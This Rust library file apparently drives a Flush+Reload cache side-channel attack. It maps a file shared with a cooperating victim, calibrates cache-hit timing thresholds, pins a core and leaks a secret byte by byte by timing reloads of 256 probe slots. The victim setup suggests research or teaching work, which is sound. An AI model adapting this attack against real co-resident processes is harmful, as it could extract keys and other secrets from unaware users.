#![deny(unsafe_op_in_unsafe_fn)]

// Flush+Reload secret leak flow
//
// The victim shares a file mapping with us and, when told a position on stdin,
// reads probe_array[secret[position] * stride]. For each position we flush the
// 256 probe slots, ask the victim, time a reload of every slot and vote over the
// fastest one.

pub mod config;
pub mod victim;

use cache_side_channel::table_side_channel::RecoveredSecret;
use cache_side_channel::{ChannelFatalError, CorePin, VictimTrigger};
use cache_utils::cache_info::CpuSupport;
use cache_utils::mmap::MMappedMemory;
use config::{ConfigError, LeakConfig};
use flush_reload::{hot_after_flush, leak_secret, SlotRegion};
use log::{debug, info, warn};
use std::io;
use std::path::PathBuf;
use thiserror::Error;

pub const CALIBRATION_ITERATIONS: u32 = 1 << 16;

#[derive(Debug, Error)]
pub enum LeakError {
    #[error("invalid configuration: {0}")]
    Config(#[from] ConfigError),
    #[error("cannot map {path}: {source}")]
    Map { path: PathBuf, source: io::Error },
    #[error("cpu lacks clflush or rdtsc, Flush+Reload is not possible")]
    UnsupportedCpu,
    #[error(transparent)]
    Channel(#[from] ChannelFatalError),
}

pub fn check_cpu() -> Result<CpuSupport, LeakError> {
    let support = CpuSupport::detect();
    info!("CPU: {} {}", support.vendor, support.brand);
    if !support.can_flush_reload() {
        return Err(LeakError::UnsupportedCpu);
    }
    if !support.invariant_tsc {
        warn!("TSC is not invariant, frequency changes will add timing noise");
    }
    Ok(support)
}

/// Maps the shared file and lays the probe slots over it.
pub fn open_region(config: &LeakConfig) -> Result<SlotRegion, LeakError> {
    config.validate()?;
    let memory =
        MMappedMemory::map_file(&config.file, config.file_size).map_err(|source| LeakError::Map {
            path: config.file.clone(),
            source,
        })?;
    Ok(SlotRegion::new(memory, config.offset, config.stride)?)
}

/// Leaks the configured positions through an already opened region.
pub fn leak(
    config: &LeakConfig,
    region: &SlotRegion,
    victim: &mut dyn VictimTrigger,
) -> Result<RecoveredSecret, LeakError> {
    // Callable with a region that did not come from `open_region`.
    config.validate()?;
    let _pin = config.core.map(CorePin::new).transpose()?;

    if config.calibrate {
        let calibration = region.calibrate(0, CALIBRATION_ITERATIONS);
        info!(
            "calibration: hit median {:?}, miss median {:?}, threshold {} cycles, error rate {:.4}",
            calibration.hit_median(),
            calibration.miss_median(),
            calibration.threshold.value,
            calibration.error_rate
        );
        let hot = hot_after_flush(region, &calibration.threshold);
        if hot > 0 {
            warn!("{} of 256 slots still read as hits right after a flush", hot);
        } else {
            info!("all 256 slots read as misses after a flush");
        }
    }

    info!(
        "leaking {} bytes from position {}, {} trials each",
        config.length, config.start, config.trials
    );
    let secret = leak_secret(region, victim, config.start, config.length, config.trials)?;
    for vote in secret.votes() {
        if vote.votes * 2 <= vote.trials {
            debug!(
                "position {} has no majority ({}/{} votes for {:#04x})",
                vote.position, vote.votes, vote.trials, vote.value
            );
        }
    }
    Ok(secret)
}

pub fn run(config: &LeakConfig, victim: &mut dyn VictimTrigger) -> Result<RecoveredSecret, LeakError> {
    let support = check_cpu()?;
    if support.clflush_line_size > config.stride {
        warn!(
            "clflush evicts {} bytes, more than the {} byte stride",
            support.clflush_line_size, config.stride
        );
    }
    let region = open_region(config)?;
    leak(config, &region, victim)
}
